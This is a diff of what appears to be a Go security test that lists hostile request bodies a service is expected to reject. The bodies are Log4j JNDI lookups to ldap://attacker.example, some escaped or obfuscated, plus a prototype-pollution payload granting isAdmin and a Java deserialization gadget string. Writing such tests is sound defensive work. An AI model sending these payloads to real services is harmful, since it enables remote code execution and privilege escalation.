@@ -37,7 +37,7 @@ func attacks() map[string]Request {
 		"Log4j in a body, escaped":      operatorWith(`{"reason":"\u0024\u007bjndi:ldap://attacker.example/a}"}`),
 		"Log4j in a body, hidden":       operatorWith(`{"reason":"${${lower:j}ndi:ldap://attacker.example/a}"}`),
 		"a prototype in a body":         operatorWith(`{"reason":"a","__proto__":{"isAdmin":true}}`),
-		"Java in a body":                operatorWith(`{"reason":"java.lang.Runtime.getRuntime().exec(1)"}`),
+		"serialized Java in a body":     operatorWith(`{"reason":"org.apache.commons.collections.functors.InvokerTransformer java.lang.Runtime"}`),
 		"Log4j in a body not as JSON":   withBody(request("POST", "/v1/handshake/confirm", ""), "multipart/form-data; boundary=x", []byte("--x\r\n\r\n${jndi:ldap://a}\r\n--x--")),
 		"Log4j after a byte order mark": operatorWith("\xef\xbb\xbf" + `{"reason":"${jndi:ldap://attacker.example/a}"}`),
 	}
